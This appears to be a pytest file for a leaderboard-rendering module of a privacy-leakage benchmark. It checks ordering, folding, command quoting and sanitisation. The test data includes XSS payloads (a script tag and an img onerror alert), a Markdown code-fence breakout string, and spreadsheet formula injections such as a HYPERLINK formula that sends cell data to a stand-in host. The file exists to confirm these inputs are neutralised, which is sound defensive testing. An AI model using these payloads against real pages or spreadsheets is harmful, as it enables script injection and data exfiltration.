"""The board's page and files without a browser, from boards made by hand (no attack runs): rows
in rank order with model states in natural order, weaker engines' rows folded below, the
summary of each table's best row, the command that wrote the docs page (quoted, one line, and
overridable), CSV cells that a spreadsheet would run as formulas, and run directory names that
try to break out of the docs page's Markdown."""

from __future__ import annotations

import csv
import math
import re
import subprocess
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from leakbench.outputs.board import BOARD_COLUMNS, Board
from leakbench.outputs.board_html import (
    COMMAND_ENV,
    board_page,
    docs_page,
    natural_key,
    one_line,
    rank_order,
    read_board,
    shown_command,
    write_board,
)

ROOT = Path(__file__).resolve().parents[1]
TABLE = "protocol 1 | digits | honest server, batch 1"
OTHER = "protocol 1 | mnist | honest server, batch 1"
WEAK = "engine 7: its attacks were made stronger since"
# A run directory's name that closes a code fence and opens HTML on a line of its own (probe 10
# of the security report of 2026-12-06).
BREAKOUT = "sub\n```\n<img src=x onerror=alert(1)>\n```\n\n# heading"
TEXT_COLUMNS = {
    "table", "protocol", "dataset", "model", "threat_model", "model_state", "defense",
    "defense_params", "defense_label", "leak_measure", "strongest_attack", "epsilon_exceeds",
    "verdict", "verdict_note", "verification", "weak_evaluation", "leakbench", "commit",
    "config_sha256", "config_hash", "seeds", "environment", "run_dir",
}  # fmt: skip


def _row(**fields: Any) -> dict[str, Any]:
    """One board row: text columns empty and numbers NaN unless given."""
    row: dict[str, Any] = {c: "" if c in TEXT_COLUMNS else math.nan for c in BOARD_COLUMNS}
    row.update(
        table=TABLE, protocol=1, dataset="digits", model="lenet", model_state="initialisation",
        defense="none", defense_params="{}", defense_label="none", leaked=0, n=36,
        leaked_share=0.0, leaked_low=0.0, leaked_high=0.097, leak_measure="suite union",
        strongest_attack="idlg", verdict="holds", verification="not verified",
        engine_version=8, run_dir="results/a",
    )  # fmt: skip
    row.update(fields)
    return row


def _board(rows: list[dict[str, Any]], apart: list[dict[str, str]] | None = None) -> Board:
    return Board(
        pd.DataFrame(rows, columns=BOARD_COLUMNS),
        pd.DataFrame(apart or [], columns=["run_dir", "reason"]),
    )


def _labels(page: str, label: str) -> list[str]:
    """The text of every cell of a column in the order of the page."""
    return re.findall(rf'<td data-label="{label}"[^>]*>([^<]*)</td>', page)


def test_natural_key_orders_numbers_by_value() -> None:
    states = ["checkpoint epoch-10", "checkpoint epoch-2", "initialisation", "checkpoint epoch-1"]
    assert sorted(states, key=natural_key) == [
        "checkpoint epoch-1", "checkpoint epoch-2", "checkpoint epoch-10", "initialisation",
    ]  # fmt: skip
    assert natural_key("a10b") < natural_key("a10c") < natural_key("a11")


def test_rows_come_in_rank_order_then_unranked_by_natural_model_state() -> None:
    rows = [
        _row(defense_label="u-10", model_state="checkpoint epoch-10"),
        _row(defense_label="r3", table_rank=3.0),
        _row(defense_label="u-2", model_state="checkpoint epoch-2"),
        _row(defense_label="r1", table_rank=1.0),
        _row(defense_label="u-2 again", model_state="checkpoint epoch-2"),
        _row(defense_label="r2", table_rank=2.0),
    ]
    board = _board(rows)
    expected = ["r1", "r2", "r3", "u-2", "u-2 again", "u-10"]
    assert list(rank_order(board.rows)["defense_label"]) == expected
    assert _labels(board_page(board), "defense") == expected
    assert _labels(board_page(board), "rank") == ["1", "2", "3", "", "", ""]


def test_weaker_engines_rows_are_folded_below_the_current_ones() -> None:
    rows = [
        _row(defense_label="old", weak_evaluation=WEAK, engine_version=7),
        _row(defense_label="fresh", table_rank=1.0),
        _row(defense_label="older", weak_evaluation=WEAK, engine_version=7),
    ]
    page = board_page(_board(rows))
    section = page[page.index(f"<h2>{TABLE}</h2>") :]
    assert section.index(">fresh<") < section.index('<details class="lb-fold lb-weak">')
    fold = section[section.index('<details class="lb-fold lb-weak">') :]
    assert "2 rows from weaker engines" in fold
    assert ">old<" in fold and ">older<" in fold and ">fresh<" not in fold
    assert "weak evaluation (engine 7)" in fold
    # A board without weaker rows has no fold.
    assert '<details class="lb-fold lb-weak">' not in board_page(_board([_row()]))


def test_a_table_of_weaker_rows_only_says_so_and_folds_them() -> None:
    page = board_page(_board([_row(weak_evaluation=WEAK, defense_label="stale")]))
    assert "Every row of this table awaits a rerun." in page
    assert "1 row from weaker engines" in page


def test_the_summary_names_each_table_s_top_ranked_row() -> None:
    rows = [
        _row(defense_label="second", table_rank=2.0, leaked_share=0.1, test_accuracy=0.5),
        _row(
            defense_label="best",
            table_rank=1.0,
            leaked_share=0.0,
            test_accuracy=0.9,
            test_accuracy_ci95=0.01,
            verification="verified",
        ),
        _row(table=OTHER, defense_label="unranked"),
    ]
    page = board_page(_board(rows))
    summary = page[page.index("Best per dataset and threat model") : page.index("<section")]
    lines = re.findall(r"<tr>.*?</tr>", summary)[1:]  # the header row first
    assert len(lines) == 2
    digits, mnist = lines
    assert 'href="#lb-table-1"' in digits and ">best <" in digits and "second" not in digits
    assert "accuracy 90.0% [89.0%–91.0%]" in digits and ">verified<" in digits
    assert ">0.0% [0.0%–9.7%]<" in digits
    assert "no ranked row" in mnist and "unranked" not in mnist
    assert 'id="lb-table-1"' in page and 'id="lb-table-2"' in page


def test_html_escaping_still_holds() -> None:
    evil = '<script>alert("x")</script>'
    rows = [_row(defense_label=evil, verdict_note=evil, model_state=evil, run_dir=evil)]
    page = board_page(_board(rows, apart=[{"run_dir": evil, "reason": evil}]))
    assert page.count("<script>") == 1  # the page's own script
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in page


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    formulas = ['=HYPERLINK("http://x/?"&A2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    rows = [
        _row(defense_label=f, verdict_note=f, run_dir=f"{f}-dir", accuracy_drop=-0.5)
        for f in formulas
    ]
    rows.append(_row(defense_label="-0.25", verdict_note="+1e-3", run_dir="-1-dir"))
    apart = [{"run_dir": "=apart", "reason": "-reason"}]
    write_board(_board(rows, apart), tmp_path, "leakbench board")
    with (tmp_path / "board.csv").open(newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    numbers_as_text = table.pop()
    assert numbers_as_text["defense_label"] == "-0.25"  # a number, even in a text column
    assert numbers_as_text["verdict_note"] == "+1e-3"
    assert numbers_as_text["run_dir"] == "'-1-dir"
    for row, formula in zip(table, formulas, strict=True):
        assert row["defense_label"] == "'" + formula
        assert row["verdict_note"] == "'" + formula
        assert row["run_dir"] == "'" + formula + "-dir"
        assert row["accuracy_drop"] == "-0.5"  # a number, not text
        assert row["defense"] == "none"
    written = pd.read_csv(tmp_path / "board.csv")
    assert written["accuracy_drop"].tolist()[: len(formulas)] == [-0.5] * len(formulas)
    with (tmp_path / "apart.csv").open(newline="", encoding="utf-8") as handle:
        assert list(csv.DictReader(handle)) == [{"run_dir": "'=apart", "reason": "'-reason"}]
    # A lone carriage return would end the row for a reader (the CSV writer leaves the field
    # unquoted): a table holding one has its text quoted; one without is written as usual.
    assert '"none"' in (tmp_path / "board.csv").read_text(encoding="utf-8")
    write_board(_board([_row(defense_label="=1", accuracy_drop=-0.5)]), tmp_path, "x")
    text = (tmp_path / "board.csv").read_text(encoding="utf-8")
    assert ",none," in text and "'=1" in text and ",-0.5," in text


def _rendered(markdown_text: str) -> list[str]:
    """The docs page as HTML, by the docs site's Markdown (as mkdocs.yml configures it) and by
    a CommonMark renderer with HTML on."""
    markdown = pytest.importorskip("markdown", reason="Python-Markdown comes with mkdocs")
    meta = pytest.importorskip("mkdocs.utils.meta", reason="mkdocs is not installed")
    body, front = meta.get_data(markdown_text)
    assert front == {"hide": ["toc"]}
    extensions = ["admonition", "tables", "toc", "pymdownx.highlight", "pymdownx.superfences"]
    pages = [markdown.markdown(body, extensions=extensions)]
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py is not installed")
    pages.append(markdown_it.MarkdownIt("commonmark", {"html": True}).render(markdown_text))
    return pages


@pytest.mark.parametrize("given", ["list", "line", "environment"])
def test_a_run_directory_name_cannot_break_out_of_the_docs_page(
    given: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    board = _board([_row(run_dir=BREAKOUT)], apart=[{"run_dir": BREAKOUT, "reason": "apart"}])
    words = ["leakbench", "board", BREAKOUT, "--out", str(tmp_path)]
    command: Any = {"list": words, "line": " ".join(words), "environment": "ignored"}[given]
    if given == "environment":
        monkeypatch.setenv(COMMAND_ENV, f"bash build.sh {BREAKOUT}")
    else:
        monkeypatch.delenv(COMMAND_ENV, raising=False)
    write_board(board, tmp_path, command)
    page = (tmp_path / "index.md").read_text(encoding="utf-8")
    assert "<img src=x" not in page and "\n```" not in page and "\n# heading" not in page
    shown = re.search(r'<pre><code class="language-bash">(.*)</code></pre>\n', page)
    assert shown is not None
    assert "\\n" in shown[1]  # the line break spelled as an escape, on the one line
    for html_page in _rendered(page):
        assert "<img" not in html_page
        assert "<h1>heading</h1>" not in html_page and 'id="heading"' not in html_page
        assert "&lt;img src=x onerror=alert(1)&gt;" in html_page
    html_page = (tmp_path / "board.html").read_text(encoding="utf-8")
    assert "<img" not in html_page and "&#10;" in html_page


def test_the_command_s_words_are_quoted_for_bash(tmp_path: Path) -> None:
    words = ["leakbench", "board", "results/a b", "it's", BREAKOUT, "--out", "docs/board"]
    line = shown_command(words, _board([_row()]), tmp_path)
    assert "\n" not in line
    assert line.startswith("leakbench board 'results/a b' 'it'\"'\"'s' $'sub\\n")
    # bash reads the line back into the same words
    printed = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {line}"], capture_output=True, check=True
    ).stdout
    assert printed.decode("utf-8").split("\0")[:-1] == words


def test_the_shown_command_comes_from_the_environment_else_the_caller_else_the_board(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    board = _board(
        [_row(run_dir="results/b"), _row(run_dir="results/a b")],
        apart=[{"run_dir": "results/c", "reason": "apart"}],
    )
    monkeypatch.delenv(COMMAND_ENV, raising=False)
    out = tmp_path / "site"
    assert shown_command(None, board, out) == (
        f"leakbench board results/b 'results/a b' results/c --out {out.as_posix()}"
    )
    assert shown_command("leakbench board X --out Y", board, out) == "leakbench board X --out Y"
    monkeypatch.setenv(COMMAND_ENV, "bash docs/board/build.sh")
    assert shown_command("leakbench board X --out Y", board, out) == "bash docs/board/build.sh"
    write_board(board, out, "leakbench board X --out Y")
    page = (out / "index.md").read_text(encoding="utf-8")
    assert '<pre><code class="language-bash">bash docs/board/build.sh</code></pre>' in page


def test_one_line_spells_hidden_characters() -> None:
    assert one_line("a\nb\r\tc\x1b\u202ed") == "a\\nb\\r\\tc\\x1b\\u202ed"
    assert one_line("plain text, ünïcode") == "plain text, ünïcode"


def test_the_docs_page_has_no_blank_line_inside_its_html_block() -> None:
    # A blank line would end the HTML block in Markdown and let what follows be read as text.
    board = _board([_row(verdict_note="a\n\nb", run_dir="x\n \ny")])
    page = docs_page(board, "leakbench board x --out y")
    block = page[page.index("<style>") :]
    assert all(line.strip() for line in block.splitlines())


def test_the_committed_board_reads_back_and_renders(tmp_path: Path) -> None:
    folder = ROOT / "docs" / "board"
    if not (folder / "board.csv").is_file():
        pytest.skip("no committed board")
    board = read_board(folder)
    assert board.rows["weak_evaluation"].map(lambda v: isinstance(v, str)).all()
    page = board_page(board)
    assert page.count('<section id="lb-table-') == board.rows["table"].nunique()
    weak = int((board.rows["weak_evaluation"] != "").sum())
    assert page.count('<td data-label="defense"') == len(board.rows)
    folded = re.findall(r"(\d+) rows? from weaker engines", page)
    assert sum(int(n) for n in folded) == weak
